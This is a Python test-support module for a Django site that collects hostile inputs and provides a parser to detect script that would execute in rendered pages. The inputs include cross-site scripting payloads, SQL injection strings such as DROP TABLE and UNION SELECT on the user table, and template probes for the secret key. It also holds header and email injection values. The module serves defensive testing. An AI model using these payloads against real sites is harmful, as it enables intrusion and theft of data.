"""Hostile input, shared by the security suite and the browser tests.

Every payload that could execute carries the marker XSS (as in alert('XSS')), so a
check can tell an injected script from the site's own. `find_executable(html)` lists
what in a page would run in a browser; the browser tests open the same pages and
assert that no dialog fires.

Import from here rather than copying: `from tests.security.payloads import PAYLOADS`.
"""

import json
import re
from html.parser import HTMLParser

MARKER = "XSS"
# Template injection: Django never renders stored text as a template, so the product
# of these numbers must never appear where the payload went in.
TEMPLATE_PRODUCT = str(31337 * 31337)

SCRIPT_TAGS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=//evil.example/XSS.js></SCRIPT>",
    "<script >alert('XSS')</script >",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<<script>alert('XSS');//<</script>",
    '<script type="module">alert("XSS")</script>',
    "<script>/*</script><script>*/alert('XSS')</script>",
]
EVENT_HANDLERS = [
    "<img src=x onerror=alert('XSS')>",
    '<img src="x" onerror="alert(\'XSS\')">',
    "<body onload=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "<div onmouseover=\"alert('XSS')\">hover</div>",
    "<input autofocus onfocus=alert('XSS')>",
    "<details open ontoggle=alert('XSS')>",
    "<video><source onerror=\"alert('XSS')\"></video>",
    "<marquee onstart=alert('XSS')>",
    '" onmouseover="alert(\'XSS\')" x="',
    "' onfocus='alert(`XSS`)' autofocus='",
    "<img/src=x/onerror=alert('XSS')>",
    "<IMG SRC=x OnErRoR=alert('XSS')>",
]
DANGEROUS_URLS = [
    "<a href=\"javascript:alert('XSS')\">click</a>",
    "<a href=\"JaVaScRiPt:alert('XSS')\">click</a>",
    "<a href=\"&#106;avascript:alert('XSS')\">click</a>",
    "<a href=\"java\tscript:alert('XSS')\">click</a>",
    "<a href=\" javascript:alert('XSS')\">click</a>",
    "<a href=\"vbscript:msgbox('XSS')\">click</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=">XSS</a>',
    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert('XSS')</script>\"></object>",
    "<embed src=\"javascript:alert('XSS')\">",
    "<form action=\"javascript:alert('XSS')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('XSS')\">go</button>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'XSS\')">',
    "<base href=\"javascript:alert('XSS')//\">",
    '<link rel="stylesheet" href="javascript:alert(\'XSS\')">',
    "<img src=\"data:image/svg+xml,<svg onload=alert('XSS')>\">",
    "javascript:alert('XSS')",
]
SVG_AND_MATHML = [
    "<svg><script>alert('XSS')</script></svg>",
    '<svg><a xlink:href="javascript:alert(\'XSS\')"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe></foreignObject></svg>",
]
BROKEN_MARKUP = [
    "<p>unclosed <b>bold <i>italic",
    "</div></main></body></html><script>alert('XSS')</script>",
    "<!--<script>alert('XSS')</script>-->",
    "<!-- --!><script>alert('XSS')</script>",
    "<![CDATA[<script>alert('XSS')</script>]]>",
    "<style>@import 'javascript:alert(\"XSS\")';</style>",
    "<div style=\"background:url(javascript:alert('XSS'))\">x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS')>\">",
    "<textarea></textarea><script>alert('XSS')</script>",
    "<title></title><script>alert('XSS')</script>",
]
SCRIPT_CONTEXT = [
    "</script><script>alert('XSS')</script>",
    '"}</script><script>alert("XSS")</script>',
    "</SCRIPT ><script>alert('XSS')</script>",
    "\\u003c/script\\u003e<script>alert('XSS')</script>",
    "';alert('XSS');//",
    '";alert("XSS");//',
    "<!--<script>",
]
TEMPLATE_SYNTAX = [
    "{{ 31337*31337 }}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% static 'x' %}",
    "${31337*31337}",
    "#{31337*31337}",
    "{{request.user.password}}",
]
ODD_TEXT = [
    "A" * 10_000,
    "\u202eevil.exe\u202dtxt",
    "\u202egnp.exe",
    "Zero\u200bwidth\u200djoiner\ufeff",
    "\x00",
    "before\x00after",
    "\ud800 lone surrogate",
    "\udfff",
    "emoji 🧨💣 and combining e\u0301\u0301\u0301",
    "line\r\nSet-Cookie: injected=1",
    "tab\tand\x0bvertical\x0cform",
    "\x1b[31mterminal escape",
]
SQL_METACHARACTERS = [
    "' OR '1'='1",
    "'; DROP TABLE articles_article; --",
    '" OR 1=1 --',
    "1); SELECT pg_sleep(10); --",
    "%_%",
    "\\'; --",
    "' UNION SELECT username, password FROM auth_user --",
    "&|!():*<>",
]
EMAILS = [
    "\"<script>alert('XSS')</script>\"@example.com",
    "\"<img src=x onerror=alert('XSS')>\"@example.com",
    "reader@example.com\r\nBcc: victim@example.com",
    "reader@example.com<script>alert('XSS')</script>",
    "javascript:alert('XSS')//@example.com",
    "READER+{{7*7}}@Example.COM",
]

PAYLOADS = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + DANGEROUS_URLS
    + SVG_AND_MATHML
    + BROKEN_MARKUP
    + SCRIPT_CONTEXT
    + TEMPLATE_SYNTAX
    + ODD_TEXT
    + SQL_METACHARACTERS
    + EMAILS
)


def payload_id(payload):
    """A short, printable test id for a payload."""
    text = payload.encode("ascii", "backslashreplace").decode()
    return text[:40] + ("…" if len(text) > 40 else "")


def for_the_wire(payload):
    """UTF-8 bytes of a payload, lone surrogates included (as a hostile client sends)."""
    return payload.encode("utf-8", "surrogatepass")


URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcdoc",
    "srcset",
    "dynsrc",
    "lowsrc",
}
DANGEROUS_SCHEMES = re.compile(
    r"^(javascript|vbscript|livescript|data:(text/html|image/svg|application/xhtml))", re.I
)
EXECUTABLE_SCRIPT_TYPES = {"", "text/javascript", "application/javascript", "module"}
NEVER_IN_OUR_PAGES = {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}


def _strip_controls(value):
    # Browsers ignore ASCII whitespace and control characters inside a URL scheme.
    return re.sub(r"[\x00-\x20]", "", value)


class _ExecutableFinder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []
        self._script = None

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…> event handler")
            if name in URL_ATTRIBUTES and DANGEROUS_SCHEMES.match(_strip_controls(value)):
                self.found.append(f"<{tag} {name}={value[:60]!r}>")
            if name == "style" and re.search(r"javascript:|expression\(", value, re.I):
                self.found.append(f"<{tag} style={value[:60]!r}>")
            if name == "http-equiv" and value.lower() == "refresh":
                self.found.append(f"<{tag} http-equiv=refresh>")
        if tag in NEVER_IN_OUR_PAGES:
            self.found.append(f"<{tag}> element")
        if tag == "script":
            script_type = (dict(attrs).get("type") or "").strip().lower()
            self._script = {"type": script_type, "attrs": dict(attrs), "text": []}
            if MARKER.lower() in (dict(attrs).get("src") or "").lower():
                self.found.append("<script src> from a payload")
        if tag == "style":
            self._script = {"type": "style", "attrs": dict(attrs), "text": []}

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag in ("script", "style"):
            self.handle_endtag(tag)

    def handle_data(self, data):
        if self._script is not None:
            self._script["text"].append(data)

    def handle_endtag(self, tag):
        if tag not in ("script", "style") or self._script is None:
            return
        script, self._script = self._script, None
        text = "".join(script["text"])
        if script["type"] == "style":
            if MARKER.lower() in text.lower():
                self.found.append("<style> from a payload")
        elif script["type"] == "application/ld+json":
            try:
                json.loads(text)
            except ValueError:
                self.found.append("JSON-LD block broken open: " + text[:80])
        elif script["type"] in EXECUTABLE_SCRIPT_TYPES and MARKER.lower() in text.lower():
            self.found.append("<script> from a payload: " + text[:80])


def find_executable(html):
    """What in this HTML would run in a browser and did not come from our templates."""
    finder = _ExecutableFinder()
    finder.feed(html)
    finder.close()
    if finder._script is not None:
        finder.found.append("an unterminated <script> or <style> swallowed the page")
    problems = list(finder.found)
    if TEMPLATE_PRODUCT in html:
        problems.append("template syntax was evaluated")
    return problems


def json_ld_blocks(html):
    """The parsed JSON-LD blocks of a page (a payload must not break one open)."""
    blocks = re.findall(
        r'<script[^>]*type="application/ld\+json"[^>]*>(.*?)</script>', html, re.S | re.I
    )
    return [json.loads(block) for block in blocks]
